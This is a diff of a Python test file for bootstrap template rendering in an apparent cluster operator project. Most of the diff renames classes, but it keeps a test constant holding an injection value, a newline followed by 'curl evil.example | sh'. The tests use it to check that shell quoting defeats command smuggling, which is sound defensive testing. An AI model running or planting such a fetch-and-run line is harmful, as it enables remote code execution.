@@ -11,11 +11,16 @@ from hypothesis import strategies as st
 
 from bigfleet.edge.clock import ManualClock
 from bigfleet.edge.counts import Counts
-from bigfleet.edge.logs import Silence
+from bigfleet.edge.logs import NullLog
 from bigfleet.model.requirements import Operator, Requirement
 from bigfleet.model.session_frames import BootstrapRequest
 from bigfleet.operator.bootstrap.renderer import ClusterFacts
-from bigfleet.operator.bootstrap.templates import BadTemplate, RequirementWords, Template, Values
+from bigfleet.operator.bootstrap.templates import (
+    BadTemplate,
+    RequirementWords,
+    Template,
+    TemplateValues,
+)
 from bigfleet.operator.driving.bootstrap_requests import BootstrapRequests, TemplateFile
 
 SHELL = "a3\ncurl evil.example | sh"
@@ -27,7 +32,7 @@ ALL = (
 
 def printed(source: str, *values: str, key: str = "zone", request_id: str = "r-1") -> str:
     words = RequirementWords(key, "In", values)
-    filled = Values(cluster_id="shop", request_id=request_id, requirements=(words,))
+    filled = TemplateValues(cluster_id="shop", request_id=request_id, requirements=(words,))
     return Template.parse(source).render(filled)
 
 
@@ -79,7 +84,7 @@ def test_shellquote_makes_one_word_of_a_shell(value: str) -> None:
 
 
 def test_the_operators_own_settings_keep_their_characters_on_one_line() -> None:
-    filled = Values(cluster_id="shop", api_server="https://[::1]:6443\nx", ca_bundle="Q0E=")
+    filled = TemplateValues(cluster_id="shop", api_server="https://[::1]:6443\nx", ca_bundle="Q0E=")
     text = Template.parse("{{ .APIServer }} {{ .CABundle }}").render(filled)
     assert text == "https://[::1]:6443_x Q0E="
 
@@ -107,7 +112,7 @@ async def test_a_shard_that_asks_for_such_a_machine_gets_an_error_and_no_blob(
     file = tmp_path / "bootstrap.tmpl"
     file.write_text(ALL)
     facts, counts = ClusterFacts("shop", "https://api:6443", b""), Counts()
-    log = Silence()
+    log = NullLog()
     bootstrapping = BootstrapRequests(
         TemplateFile(str(file), log), facts, ManualClock(), log, counts
     )
